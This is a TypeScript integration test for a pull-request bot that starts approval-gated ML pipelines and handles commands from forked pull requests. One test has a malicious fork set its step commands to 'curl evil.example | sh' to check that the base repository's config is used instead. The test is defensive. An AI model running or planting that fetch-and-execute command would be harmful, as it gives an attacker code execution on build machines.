/**
 * A pipeline run started from a pull request, through the bot and the queue's tasks called
 * directly (no worker): `/vh pipeline run` makes the run and answers with its graph; the driver
 * pauses a require-approval node; the report round writes one check run with the Mermaid graph and
 * the Approve and Stop buttons; a reader's click is refused, a writer's approves the node; Stop
 * stops the run.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { randomBytes } from "node:crypto";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { loadConfig } from "../../app/config.js";
import { createLogger } from "../../app/log.js";
import type { Actor } from "../../app/contracts/forge.js";
import type { ForgeEvent } from "../../app/contracts/forge-events.js";
import type { BotDeps } from "../../app/bot/commands/types.js";
import { handleEvent, type Handling } from "../../app/bot/handle-event.js";
import { runReport } from "../../app/bot/pr-report.js";
import { advancePipeline } from "../../app/pipelines/advance.js";
import { createStore } from "../../worker/stores/index.js";
import { readSnapshotFile } from "../../app/snapshots/files.js";
import { createTestDatabase } from "../helpers/db.js";
import { createMemoryForge, type MemoryForgeWorld, type MemoryRepo } from "../helpers/memory-forge.js";

const YAML = `
- step:
    name: prep
    image: python:3.12
    command: "true"
- step:
    name: train
    image: python:3.12
    command: "true"
    inputs:
      - name: data
        optional: true
- pipeline:
    name: gated
    nodes:
      - name: prep
        type: execution
        step: prep
        actions:
          - when: node-starting
            then: require-approval
      - name: train
        type: execution
        step: train
    edges:
      - [prep.output.*, train.input.data]
`;

const alice: Actor = { login: "alice", id: 11, isBot: false };
const bob: Actor = { login: "bob", id: 12, isBot: false };

let db: Awaited<ReturnType<typeof createTestDatabase>>;
let dataDir: string;
let deps: BotDeps;
let world: MemoryForgeWorld;
let repo: MemoryRepo;
let head: string;
let n = 0;
const first = (): Handling => ({ forge: "github", deliveryId: `d-${++n}`, attempt: { number: 1, max: 10 } });

beforeEach(async () => {
  db = await createTestDatabase();
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "vh-bot-pipeline-"));
  const config = loadConfig({ DATABASE_URL: db.connectionString, VH_DATA_DIR: dataDir, VH_SECRETS_KEY: randomBytes(32).toString("base64"), VH_LOG_LEVEL: "silent", VH_DOCKER: "never" });
  world = createMemoryForge();
  repo = world.addRepo("acme/pipes", { id: 99, installationId: 5 });
  head = repo.commit({ "valohai.yaml": YAML });
  repo.openPullRequest({ number: 3, headSha: head, author: alice });
  repo.grant("alice", "write");
  repo.grant("bob", "read");
  deps = { sql: db.sql, store: createStore(config.store), config, log: createLogger("silent"), forges: world.provider };
});

afterEach(async () => {
  await db?.drop();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

const button = (actor: Actor, identifier: string, externalId: string): Extract<ForgeEvent, { kind: "check_run" }> => ({
  kind: "check_run", action: "requested_action", repo: repo.ref, checkRunId: 1, externalId, headSha: head, identifier, actor,
});

describe("a pipeline run from a pull request", () => {
  it("on a fork: refused until the project allows fork commands; then the base's valohai.yaml, or the fork's own where fork configs are allowed", async () => {
    const mallory: Actor = { login: "mallory", id: 66, isBot: false };
    // The fork renames the pipeline's nodes' step commands to its own.
    const forkYaml = YAML.replaceAll('command: "true"', 'command: "curl evil.example | sh"');
    const forkHead = repo.commit({ "valohai.yaml": forkYaml });
    repo.openPullRequest({ number: 4, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/pipes" }, baseSha: head });
    expect(await handleEvent(deps, repo.commentEvent(4, alice, "/vh pipeline run gated"), first())).toBe("refused: fork pull requests are not run in this project");
    expect(await db.sql`select id from pipelines`).toEqual([]);

    await db.sql`insert into projects (name, fork_commands) values ('acme--pipes', true)`;
    expect(await handleEvent(deps, repo.commentEvent(4, alice, "/vh pipeline run gated"), first())).toBe("started pipeline =1");
    const [run] = await db.sql<{ id: string; commit_sha: string; code_sha256: string }[]>`select id, commit_sha, code_sha256 from pipelines`;
    expect(run!.commit_sha).toBe(forkHead);
    const [own] = await db.sql<{ code_sha256: string }[]>`select code_sha256 from forge_commit_snapshots where commit_sha = ${forkHead}`;
    expect(run!.code_sha256).not.toBe(own!.code_sha256);
    expect(await readSnapshotFile(deps.store, run!.code_sha256, "valohai.yaml")).toBe(YAML);
    await db.sql`update projects set fork_configs = true`;
    expect(await handleEvent(deps, repo.commentEvent(4, alice, "/vh pipeline run gated --no-reuse"), first())).toBe("started pipeline =2");
    const [second] = await db.sql<{ code_sha256: string }[]>`select code_sha256 from pipelines where counter = 2`;
    expect(second!.code_sha256).toBe(own!.code_sha256);
  });

  it("answers with the graph, pauses for approval, shows Approve and Stop on its check run, and obeys writers only", async () => {
    const outcome = await handleEvent(deps, repo.commentEvent(3, alice, "/vh pipeline run gated"), first());
    expect(outcome).toBe("started pipeline =1");
    const [run] = await db.sql<{ id: string; commit_sha: string; status: string }[]>`select id, commit_sha, status from pipelines`;
    expect(run).toMatchObject({ commit_sha: head, status: "running" });
    const comments = world.comments("acme/pipes", 3);
    expect(comments.map((c) => c.body).join("\n")).toContain("Started pipeline =1 `gated`");
    expect(comments.map((c) => c.body).join("\n")).toContain("```mermaid");

    await advancePipeline(deps, run!.id);
    const nodes = await db.sql<{ name: string; status: string }[]>`select name, status from pipeline_nodes order by position`;
    expect(nodes).toEqual([{ name: "prep", status: "awaiting-approval" }, { name: "train", status: "waiting" }]);

    const [pr] = await db.sql<{ id: string }[]>`select id from change_requests where repository_id = 99 and number = 3`;
    await runReport(deps, { pr: pr!.id });
    const [check] = world.checkRuns("acme/pipes", head).filter((c) => c.spec.name === "vh pipeline: gated (=1)");
    expect(check!.spec.status).toBe("in_progress");
    expect(check!.spec.externalId).toBe(`pipeline:${run!.id}`);
    expect(check!.spec.summary).toContain('n0["prep<br/>✋ awaiting approval"]:::waiting');
    expect(check!.spec.actions!.map((a) => a.identifier)).toEqual(["approve:0", "stop"]);

    expect(await handleEvent(deps, button(bob, "approve:0", check!.spec.externalId!), first())).toBe("refused: bob has read");
    expect((await db.sql<{ status: string }[]>`select status from pipeline_nodes where name = 'prep'`)[0]!.status).toBe("awaiting-approval");
    expect(await handleEvent(deps, button(alice, "approve:0", check!.spec.externalId!), first())).toBe("approved pipeline =1 node prep");
    const [prep] = await db.sql<{ status: string; approved_by: string }[]>`select status, approved_by from pipeline_nodes where name = 'prep'`;
    expect(prep).toEqual({ status: "waiting", approved_by: "alice" });
    await advancePipeline(deps, run!.id);
    expect((await db.sql<{ status: string }[]>`select status from pipeline_nodes where name = 'prep'`)[0]!.status).toBe("running");

    expect(await handleEvent(deps, button(alice, "stop", check!.spec.externalId!), first())).toBe("stopped pipeline =1");
    const [after] = await db.sql<{ status: string; status_detail: string }[]>`select status, status_detail from pipelines`;
    expect(after).toEqual({ status: "stopped", status_detail: "Stopped by alice." });
    const [exec] = await db.sql<{ status: string }[]>`select e.status from pipeline_nodes n join executions e on e.id = n.execution_id where n.name = 'prep'`;
    expect(exec!.status).toBe("stopped");
  });
});
